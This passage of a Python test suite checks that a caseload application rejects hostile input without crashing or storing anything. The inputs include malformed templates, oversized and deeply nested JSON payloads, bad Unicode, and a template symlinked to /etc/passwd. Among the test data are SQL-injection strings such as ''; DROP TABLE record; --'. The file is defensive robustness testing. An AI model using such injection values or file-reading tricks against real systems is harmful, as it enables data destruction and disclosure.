        with store.reading() as session:
            person = session.scalars(
                select(YoungPerson).where(YoungPerson.reference == "YP-9")
            ).one()
            assert {k: getattr(person, k) for k in expected} == expected
    finally:
        store.close()


# -- practice templates ----------------------------------------------------------------------

GOOD_TEMPLATE = (ROOT / "forms" / "deep_dive_review.toml").read_text(encoding="utf-8")


def _good(template_id: str) -> str:
    return GOOD_TEMPLATE.replace('id = "deep_dive_review"', f'id = "{template_id}"', 1)


def _nested_tables(depth: int) -> bytes:
    return "\n".join("[" + ".".join(["a"] * n) + "]" for n in range(1, depth)).encode()


HOSTILE_TEMPLATES: dict[str, tuple[bytes, str]] = {
    "binary-garbage": (bytes(range(256)) * 8, "is not UTF-8 text"),
    "utf16": (_good("utf16").encode("utf-16"), "is not UTF-8 text"),
    "nul-byte": (b'id = "a\x00b"\n', "is not valid TOML"),
    "escape-character": (b'id = "x"\ntitle = "red \x1b[31m"\n', "is not valid TOML"),
    "unterminated-string": (b'id = "x"\ntitle = "unterminated\n', "is not valid TOML"),
    "duplicate-keys": (b'id = "a"\nid = "b"\n', "is not valid TOML"),
    "50000-nested-arrays": (b"x = " + b"[" * 50_000 + b"]" * 50_000, "too deeply"),
    "50000-nested-inline-tables": (b"x = " + b"{a=" * 50_000 + b"1" + b"}" * 50_000, "too deeply"),
    "300-nested-table-headers": (_nested_tables(300), "is not a setting this format knows"),
    "enormous-string": (
        _good("enormous").replace('title = "', 'title = "' + "x" * MAX_TEMPLATE_BYTES, 1).encode(),
        "a template file is at most",
    ),
    "wrong-types": (
        b'id = 5\nversion = "one"\ntitle = []\npurpose = {}\nmodel = true\n'
        b'roles = "keyworker"\nscope = 1979-05-27\nsections = "none"\n',
        "Input should be a valid",
    ),
    "version-beyond-any-column": (
        _good("huge_version")
        .replace("version = 1", "version = 99999999999999999999999", 1)
        .encode(),
        "must be at most 2147483647",
    ),
    "version-nan": (
        _good("nan_version").replace("version = 1", "version = nan", 1).encode(),
        "finite number",
    ),
    "version-negative": (
        _good("negative").replace("version = 1", "version = -1", 1).encode(),
        "must be at least 1",
    ),
    "sql-in-the-id": (
        _good("x").replace('id = "x"', 'id = "x\'; DROP TABLE form_template; --"', 1).encode(),
        "is not a valid id",
    ),
    "empty-file": (b"", "is missing"),
}


def _hostile_folder(tmp_path: Path, template_id: str) -> tuple[Path, Path]:
    folder = tmp_path / "templates"
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "local_ok.toml").write_text(_good("local_ok"), encoding="utf-8")
    data, _ = HOSTILE_TEMPLATES[template_id]
    hostile = folder / f"{template_id}.toml"
    hostile.write_bytes(data)
    return folder, hostile


def _assert_clear(problems: list[Any], path: Path, expected: str) -> None:
    mine = [p for p in problems if p.path == path]
    assert mine, problems
    assert any(expected in p.message for p in mine), [p.message for p in mine]
    for problem in mine:
        assert "\n" not in str(problem) and "Traceback" not in str(problem)


@pytest.mark.parametrize("template_id", list(HOSTILE_TEMPLATES))
def test_a_hostile_template_gets_a_clear_problem_and_the_others_load(
    tmp_path: Path, template_id: str
) -> None:
    folder, hostile = _hostile_folder(tmp_path, template_id)
    library = load_library([ROOT / "forms", folder])
    assert ("local_ok", 1) in library.templates
    assert ("deep_dive_review", 1) in library.templates
    _assert_clear(library.problems, hostile, HOSTILE_TEMPLATES[template_id][1])
    assert all(p.path == hostile for p in library.problems)


@pytest.mark.parametrize(
    "template_id", ["binary-garbage", "50000-nested-arrays", "version-beyond-any-column"]
)
def test_hostile_templates_through_forms_list_and_validate(
    no_caseload: Callable[..., Run], template_id: str
) -> None:
    caseload = no_caseload
    # The user's templates folder is where a team drops its own files.
    user_folder = Path(os.environ["XDG_DATA_HOME"]) / "Keyworker"
    _, hostile = _hostile_folder(user_folder, template_id)
    listing = caseload("forms", "list", "--json")
    assert listing.code == 0
    ids = {t["id"] for t in json.loads(listing.out)["templates"]}
    assert {"local_ok", "deep_dive_review", "safety_plan"} <= ids
    assert [line for line in listing.lines if str(hostile) in line]
    assert all(line.startswith("Skipped a broken template: ") for line in listing.lines)
    checked = caseload("forms", "validate", str(hostile.parent))
    assert checked.code == 1
    assert checked.lines[-1].endswith("correct them and validate again.")
    assert all(line.startswith(str(hostile)) for line in checked.lines[:-1])


def test_a_template_linked_to_etc_passwd_is_refused_without_showing_it(tmp_path: Path) -> None:
    passwd = Path("/etc/passwd")
    if not passwd.is_file():
        pytest.skip("no /etc/passwd here")
    folder = tmp_path / "templates"
    folder.mkdir()
    (folder / "local_ok.toml").write_text(_good("local_ok"), encoding="utf-8")
    link = folder / "passwd.toml"
    link.symlink_to(passwd)
    library = load_library([folder])
    assert list(library.templates) == [("local_ok", 1)]
    [problem] = library.problems
    assert problem.path == link and "is not valid TOML" in problem.message
    first_line = passwd.read_text(encoding="utf-8", errors="replace").splitlines()[0]
    assert first_line not in str(problem) and "root:" not in str(problem)


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="named pipes are POSIX")
def test_pipes_loops_dangling_links_and_folders_named_toml_are_skipped(
    no_caseload: Callable[..., Run], tmp_path: Path
) -> None:
    caseload = no_caseload
    folder = tmp_path / "templates"
    folder.mkdir()
    (folder / "local_ok.toml").write_text(_good("local_ok"), encoding="utf-8")
    os.mkfifo(folder / "pipe.toml")
    (folder / "loop.toml").symlink_to(folder / "loop.toml")
    (folder / "dangling.toml").symlink_to(folder / "nowhere.toml")
    (folder / "folder.toml").mkdir()
    (folder / "zero.toml").symlink_to("/dev/zero")
    library = load_library([folder])
    assert list(library.templates) == [("local_ok", 1)] and library.problems == []
    # Named one by one, a pipe must not block the checker: it is not a regular file.
    result = caseload("forms", "validate", str(folder / "pipe.toml"), str(folder / "zero.toml"))
    assert result.code == 1
    assert sum("is not a regular file" in line for line in result.lines) == 2
    assert stat.S_ISFIFO((folder / "pipe.toml").stat().st_mode)


def test_a_big_template_under_the_limit_and_one_saved_with_a_bom_load_faithfully(
    tmp_path: Path,
) -> None:
    folder = tmp_path / "templates"
    folder.mkdir()
    help_text = "Long guidance ✍️ مرحبا Siân. " * 20_000  # about 640 KB
    big = _good("big_help").replace(
        'title = "The meeting"\n', f'title = "The meeting"\nhelp = "{help_text}"\n', 1
    )
    assert len(big.encode()) < MAX_TEMPLATE_BYTES
    (folder / "big.toml").write_text(big, encoding="utf-8")
    (folder / "bom.toml").write_bytes(b"\xef\xbb\xbf" + _good("notepad").encode())
    library = load_library([folder])
    assert library.problems == []
    template = library.get("big_help", 1)
    assert template is not None and template.sections[0].help == help_text.strip()
    assert library.get("notepad", 1) is not None


# -- the central store's API -----------------------------------------------------------------

CENTRAL_CASES = (
    "reference,given_name,family_name,date_of_birth,team,keyworker\n"
    "A001,Ava,Stone,2008-01-01,A,kwa1\n"
)


@dataclass
class Central:
    database: Database
    client: TestClient
    headers: dict[str, str]
    young_person_id: str


@pytest.fixture(scope="module")
def central(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Central]:
    database = open_database(data_dir=tmp_path_factory.mktemp("central") / "db")
    add_people(database, ("kwa1", "keyworker", "A"))
    with database.session() as session, session.begin():
        import_central(session, parse_caseload_csv(CENTRAL_CASES.encode()))
    with database.session() as session:
        young_person_id = session.scalars(
            select(ServerBase.metadata.tables["record"].c.record_id).where(
                ServerBase.metadata.tables["record"].c.record_type == "young_person"
            )
        ).one()
    with TestClient(create_app(database), raise_server_exceptions=False) as client:
        signed_in = client.post(
            "/v1/auth/login", json={"user": "kwa1", "password": PASSWORD, "device_id": new_id()}
        )
        assert signed_in.status_code == 200, signed_in.text
        headers = {"Authorization": f"Bearer {signed_in.json()['access_token']}"}
        yield Central(database, client, headers, young_person_id)
    database.dispose()


def central_hashes(database: Database) -> dict[str, str]:
    """Every table but the server's own audit log and its head (which record refused sign-ins)."""
    hashes = {}
    with database.session() as session:
        for table in ServerBase.metadata.sorted_tables:
            if table.name in {ServerAudit.__tablename__, ServerAuditHead.__tablename__}:
                continue
            rows = sorted(repr(tuple(row)) for row in session.execute(select(table)))
            hashes[table.name] = hashlib.sha256("\n".join(rows).encode()).hexdigest()
    return hashes


def _op(**changes: Any) -> dict[str, Any]:
    op: dict[str, Any] = {
        "op_id": new_id(),
        "record_type": "contact",
        "record_id": new_id(),
        "operation": "insert",
        "base_version": 0,
        "patch": {
            "narrative": "A visit.",
            "contact_type": "home_visit",
            "occurred_at": "2026-10-01T09:00:00+00:00",
        },
    }
    for key, value in changes.items():
        if key.startswith("patch_"):
            op["patch"][key.removeprefix("patch_")] = value
        else:
            op[key] = value
    return op


def _push(*ops: dict[str, Any], **extra: Any) -> bytes:
    return json.dumps({"ops": list(ops), **extra}).encode()


JSON = {"content-type": "application/json"}
FIVE_MB = 5 * 1024 * 1024


@dataclass(frozen=True)
class Payload:
    path: str
    body: bytes
    headers: dict[str, str]
    status: int
    signed_in: bool = True


def _raw(path: str, body: bytes, status: int, content_type: str = "application/json") -> Payload:
    return Payload(path, body, {"content-type": content_type}, status)


PAYLOADS: dict[str, Payload] = {
    "5mb-of-garbage": _raw("/v1/sync/push", b"x" * FIVE_MB, 422),
    "5mb-of-ops-over-the-limit": _raw(
        "/v1/sync/push", _push(*(_op(patch_narrative="n" * 2_600) for _ in range(2_001))), 422
    ),
    "2001-ops": _raw("/v1/sync/push", _push(*(_op() for _ in range(2_001))), 422),
    "2001-audit-events": _raw(
        "/v1/sync/push",
        json.dumps(
            {
                "audit": [
                    {"seq": n, "occurred_at": "x", "actor": "a", "action": "b", "hash": "h"}
                    for n in range(2_001)
                ]
            }
        ).encode(),
        422,
    ),
    "100000-deep-nesting": _raw(
        "/v1/sync/push", b'{"ops":' + b"[" * 100_000 + b"]" * 100_000 + b"}", 400
    ),
    "deep-nesting-in-a-patch": _raw(
        "/v1/sync/push",
        _push(_op()).replace(
            b'"patch": {', b'"patch": {"x": ' + b"[" * 5_000 + b"]" * 5_000 + b", ", 1
        ),
        400,
    ),
    "invalid-utf8": _raw("/v1/sync/push", b'{"ops": [], "x": "\xff\xfe\xc3"}', 400),
    "text-plain-content-type": _raw("/v1/sync/push", _push(), 422, content_type="text/plain"),
    "no-content-type": Payload("/v1/sync/push", _push(), {}, 422),
    "form-encoded-login": Payload(
        "/v1/auth/login",
        b"user=kwa1&password=x&device_id=d",
        {"content-type": "application/x-www-form-urlencoded"},
        422,
        signed_in=False,
    ),
    "json-array-body": _raw("/v1/sync/push", b"[1, 2]", 422),
    "json-null-body": _raw("/v1/sync/push", b"null", 422),
    "empty-body": _raw("/v1/sync/push", b"", 422),
    "base-version-2**64": _raw("/v1/sync/push", _push(_op(base_version=2**64)), 422),
    "pending-2**63": _raw("/v1/sync/push", _push(pending=2**63), 422),
    "cursor-2**63": _raw("/v1/sync/pull", json.dumps({"cursor": 2**63}).encode(), 422),
    "patch-integer-2**63": _raw("/v1/sync/push", _push(_op(patch_duration_minutes=2**63)), 422),
    "patch-integer-minus-2**63-minus-1": _raw(
        "/v1/sync/push", _push(_op(patch_duration_minutes=-(2**63) - 1)), 422
    ),
    "patch-integer-2**100": _raw("/v1/sync/push", _push(_op(patch_duration_minutes=2**100)), 422),
    "patch-float": _raw("/v1/sync/push", _push(_op(patch_duration_minutes=1.5)), 422),
    "nan": _raw("/v1/sync/push", _push(_op(patch_duration_minutes=float("nan"))), 422),
    "infinity": _raw("/v1/sync/push", _push(_op(patch_duration_minutes=float("inf"))), 422),
    "minus-infinity": _raw("/v1/sync/push", _push(_op(patch_duration_minutes=float("-inf"))), 422),
    "1e400": _raw(
        "/v1/sync/push", _push(_op()).replace(b'"base_version": 0', b'"base_version": 1e400'), 422
    ),
    "nan-in-an-audit-detail": _raw(
        "/v1/sync/push",
        b'{"audit": [{"seq": 1, "occurred_at": "x", "actor": "a", "action": "b", "hash": "h",'
        b' "detail": {"x": NaN}}]}',
        422,
    ),
    "lone-surrogate-escaped": _raw("/v1/sync/push", _push(_op(patch_narrative="\ud800")), 422),
    "lone-surrogate-raw-bytes": _raw(
        "/v1/sync/push",
        _push(_op(patch_narrative="SURROGATE")).replace(b"SURROGATE", b"\xed\xa0\x80"),
        422,
    ),
    "lone-surrogate-in-a-key": _raw("/v1/sync/push", _push(_op(**{"patch_\udc00": "x"})), 422),
    "lone-surrogate-in-op-id": _raw("/v1/sync/push", _push(_op(op_id="op-\udfff")), 422),
    "lone-surrogate-in-login": Payload(
        "/v1/auth/login",
        json.dumps({"user": "kwa1\ud800", "password": PASSWORD, "device_id": "d"}).encode(),
        JSON,
        422,
        signed_in=False,
    ),
    "lone-surrogate-in-resolve-text": _raw(
        "/v1/conflicts/x/resolve", json.dumps({"keep": "text", "text": "\ud800"}).encode(), 422
    ),
    "nul-in-user-name": Payload(
        "/v1/auth/login",
        json.dumps({"user": "kwa1\x00", "password": PASSWORD, "device_id": "d"}).encode(),
        JSON,
        401,
        signed_in=False,
    ),
    "nul-in-bearer-token": Payload(
        "/v1/sync/pull", b"{}", {**JSON, "Authorization": "Bearer \x00"}, 401, signed_in=False
    ),
    "no-sign-in": Payload("/v1/sync/push", _push(_op()), JSON, 401, signed_in=False),
    "op-id-over-80-characters": _raw("/v1/sync/push", _push(_op(op_id="o" * 81)), 422),
    "record-id-over-36-characters": _raw("/v1/sync/push", _push(_op(record_id="r" * 37)), 422),
    "unknown-operation": _raw("/v1/sync/push", _push(_op(operation="drop")), 422),
    "patch-not-an-object": _raw("/v1/sync/push", _push(_op(patch="'; DROP TABLE record; --")), 422),
    "resolve-text-over-100000": _raw(
        "/v1/conflicts/x/resolve", json.dumps({"keep": "text", "text": "t" * 100_001}).encode(), 422
    ),
    "resolve-keep-both": _raw("/v1/conflicts/x/resolve", b'{"keep": "both"}', 422),
    "duplicate-keys-last-negative": _raw("/v1/sync/pull", b'{"cursor": 0, "cursor": -1}', 422),
    "pull-limit-zero": _raw("/v1/sync/pull", b'{"limit": 0}', 422),
}


@pytest.mark.parametrize("payload_id", list(PAYLOADS))
def test_a_hostile_payload_gets_a_json_4xx_and_changes_nothing(
    central: Central, payload_id: str
) -> None:
    payload = PAYLOADS[payload_id]
    headers = {**(central.headers if payload.signed_in else {}), **payload.headers}
    before = central_hashes(central.database)
    answer = central.client.post(payload.path, content=payload.body, headers=headers)
    assert answer.status_code == payload.status, answer.text[:500]
    assert answer.headers["content-type"] == "application/json"
    assert "detail" in answer.json()
    assert central_hashes(central.database) == before
    # The team's change feed still reads: nothing was stored that an answer cannot carry.
    assert central.client.post("/v1/sync/pull", json={}, headers=central.headers).status_code == 200


@pytest.mark.parametrize(
    "sample_id", ["1mb-note", "nul-byte", "control-characters", "emoji", "mixed-bidi", "hebrew"]
)
def test_a_pushed_note_is_stored_and_pulled_back_exactly(central: Central, sample_id: str) -> None:
    value = SAMPLES[sample_id].text
    op = _op(patch_narrative=value, patch_young_person_id=central.young_person_id)
    pushed = central.client.post(
        "/v1/sync/push", content=_push(op), headers={**central.headers, **JSON}
    )
    assert pushed.status_code == 200 and pushed.json()["results"][0]["status"] == "accepted"
    pulled = central.client.post("/v1/sync/pull", json={"limit": 2000}, headers=central.headers)
    assert pulled.status_code == 200
    [change] = [c for c in pulled.json()["changes"] if c["record_id"] == op["record_id"]]
    assert change["data"]["narrative"] == value


# -- the real process ------------------------------------------------------------------------


def test_the_real_command_line_answers_hostile_input_in_one_sentence(
    tmp_path: Path, drill_rounds: Callable[[int, int], int]
) -> None:
    """Real processes (real argument decoding, real KDF): slow, so the fuller run is for
    --long-drills; in-process runs above cover the rest."""
    cli = Cli(tmp_path)
    cli.ok("init", "--user", "asha.k")
    garbage = tmp_path / "garbage.csv"
    garbage.write_bytes(bytes(range(256)) * 8)
    refused = cli("import-csv", str(garbage))
    assert refused.returncode == 1 and "Traceback" not in refused.stderr
    assert refused.stderr.splitlines()[-1].startswith("Nothing was imported: ")
    # Invalid UTF-8 bytes in an argument reach Python as lone surrogates ("\udcff" is b"\xff").
    found = cli.ok("search", "bad\udcffbyte", "--json")
    assert json.loads(found.stdout) == {"query": "bad?byte", "results": []}
    if not drill_rounds(0, 1):
        return
    person = tmp_path / "person.csv"
    person.write_bytes(_rows(HEADER, ROW))
    cli.ok("import-csv", str(person))
    assert cli.ok("search", "a\udc80\udc81").stdout.strip().endswith("0 results.")
    bad_note = cli("add-contact", "--young-person", "YP-9", "--type", "phone", "--note", "x\udcff")
    assert "not valid text" in one_sentence_error(bad_note)
    assert "0 results." in cli.ok("search", "x").stdout  # nothing was written


def test_a_spreadsheet_with_a_nul_or_an_override_in_a_name_is_refused_naming_the_line(
    caseload: Callable[..., Run], tmp_path: Path
) -> None:
    path = tmp_path / "hostile-names.csv"
    path.write_bytes(
        _rows(HEADER, b"YP-9,A\x00va,Stone,2010-01-02", "YP-10,Ben,\u202eHart,2010-01-02".encode())
    )
    result = caseload("import-csv", str(path))
    assert result.code == 1
    assert any("line 2" in line and "given_name" in line for line in result.lines)
    assert any("line 3" in line and "direction" in line for line in result.lines)
    assert result.lines[-1].startswith("Nothing was imported: 2 problem(s)")
